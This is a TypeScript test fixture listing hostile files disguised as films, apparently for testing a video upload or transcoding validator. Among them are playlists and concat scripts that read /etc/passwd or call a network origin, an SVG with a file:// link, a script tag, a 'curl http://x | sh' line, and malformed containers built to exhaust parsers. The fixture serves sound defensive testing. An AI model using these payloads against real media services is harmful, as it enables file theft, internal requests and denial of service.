/** T-E09: files that pretend to be films, each made from a valid MP4 or from scratch. */
export type Hostile = readonly [name: string, make: (film: Buffer, origin: string) => Buffer];

const text = (lines: (origin: string) => string) => (_: Buffer, origin: string) =>
  Buffer.from(lines(origin));

/** A box of an MP4 file. */
function box(type: string, ...content: Buffer[]): Buffer {
  const body = Buffer.concat(content);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(body.length + 8);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, body]);
}
const ftyp = box('ftyp', Buffer.from('isom\0\0\0\0isom'));

/** The film with the bytes after a box's type changed, at every place where the type occurs. */
const patched =
  (type: string, at: number, bytes: readonly number[]) =>
  (film: Buffer): Buffer => {
    const copy = Buffer.from(film);
    for (let found = copy.indexOf(type); found >= 0; found = copy.indexOf(type, found + 4))
      Buffer.from(bytes).copy(copy, found + at);
    return copy;
  };

function nested(depth: number): Buffer {
  let inner = box('free');
  for (let n = 0; n < depth; n++) inner = box(n % 2 ? 'trak' : 'moov', inner);
  return inner;
}
const noise = (size: number) => {
  let state = 42;
  return Buffer.from(
    Array.from({ length: size }, () => (state = (state * 1_103_515_245 + 12_345) >>> 0) >>> 24),
  );
};
const many = [0xff, 0xff, 0xff, 0xff];
const EBML = Buffer.from('1a45dfa3', 'hex');

export const HOSTILE: readonly Hostile[] = [
  [
    'playlist of a local file',
    text(
      () => '#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n',
    ),
  ],
  ['playlist of the network', text((o) => `#EXTM3U\n#EXTINF:9,\n${o}/a.ts\n#EXT-X-ENDLIST\n`)],
  [
    'playlist with a key of the network',
    text((o) => `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${o}/key"\n#EXTINF:9,\na.ts\n`),
  ],
  ['playlist behind a mark', text((o) => `\uFEFF#EXTM3U\n#EXTINF:9,\n${o}/a.ts\n`)],
  ['multivariant playlist', text((o) => `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${o}/v.m3u8\n`)],
  [
    "playlist behind a film's head",
    (_, o) => Buffer.concat([ftyp, Buffer.from(`#EXTM3U\n#EXTINF:9,\n${o}/a.ts\n`)]),
  ],
  ['concat script', text(() => "ffconcat version 1.0\nfile '/etc/passwd'\n")],
  ['concat script of the network', text((o) => `ffconcat version 1.0\nfile '${o}/a.mp4'\n`)],
  ['DASH manifest', text((o) => `<?xml version="1.0"?><MPD><BaseURL>${o}/</BaseURL></MPD>`)],
  ['session description', text(() => 'v=0\no=- 0 0 IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n')],
  ['winamp list', text((o) => `[playlist]\nFile1=${o}/a.mp4\n`)],
  [
    'QuickTime reference movie',
    (_, o) =>
      Buffer.concat([
        ftyp,
        box(
          'moov',
          box('rmra', box('rmda', box('rdrf', Buffer.from(`\0\0\0\0url \0\0\0\x40${o}/a.mov\0`)))),
        ),
      ]),
  ],
  ['data in another file', patched('dref', 16, [...Buffer.from('alis'), 0, 0, 0, 0])],
  ['data at an address', patched('dref', 16, [...Buffer.from('url '), 0, 0, 0, 0])],
  [
    'SVG',
    text(() => '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'),
  ],
  ['picture pattern', text(() => 'GIF89a%03d.png')],
  ['web page', text(() => '<html><script>alert(1)</script></html>')],
  ['shell script', text(() => '#!/bin/sh\ncurl http://x | sh\n')],
  ['archive', () => Buffer.from('PK\x03\x04film.mp4')],
  ['program', () => Buffer.from('\x7fELF\x02\x01\x01')],
  ['empty', () => Buffer.alloc(0)],
  ['one byte', () => Buffer.of(0)],
  ['zeros', () => Buffer.alloc(300_000)],
  ['noise', () => noise(300_000)],
  ['cut in its head', (film) => film.subarray(0, 40)],
  ['cut in the middle', (film) => film.subarray(0, film.length / 2)],
  ['head of a film and noise', () => Buffer.concat([ftyp, noise(100_000)])],
  ['huge picture', patched('avc1', 28, [0xff, 0xf0, 0xff, 0xf0])],
  ['huge track', patched('tkhd', 80, [0x7f, 0xff, 0, 0, 0x7f, 0xff, 0, 0])],
  ['no time scale', patched('mdhd', 16, [0, 0, 0, 0])],
  ['endless', patched('mvhd', 20, many)],
  ['too many samples', patched('stsz', 12, many)],
  ['too many times', patched('stts', 8, many)],
  ['too many chunks', patched('stco', 8, many)],
  ['chunks behind the end', patched('stco', 12, many)],
  [
    'boxes of no size',
    () => Buffer.concat([ftyp, ...Array.from({ length: 5000 }, () => Buffer.alloc(8))]),
  ],
  [
    'box larger than any disk',
    () => Buffer.concat([ftyp, Buffer.from('000000016d6f6f767fffffffffffffff', 'hex')]),
  ],
  ['boxes ten thousand deep', () => Buffer.concat([ftyp, nested(10_000)])],
  ['a Matroska file of endless elements', () => Buffer.concat([EBML, Buffer.alloc(1000, 0xff)])],
  ['a Matroska file of noise', () => Buffer.concat([EBML, noise(100_000)])],
  [
    'transport packets of noise',
    () => {
      const bytes = noise(188 * 200);
      for (let n = 0; n < 200; n++) bytes[n * 188] = 0x47;
      return bytes;
    },
  ],
  [
    'AVI of noise',
    () => Buffer.concat([Buffer.from('RIFF\xff\xff\xff\x7fAVI LIST', 'latin1'), noise(50_000)]),
  ],
  ['disc stream of noise', () => Buffer.concat([Buffer.from('000001ba', 'hex'), noise(100_000)])],
];
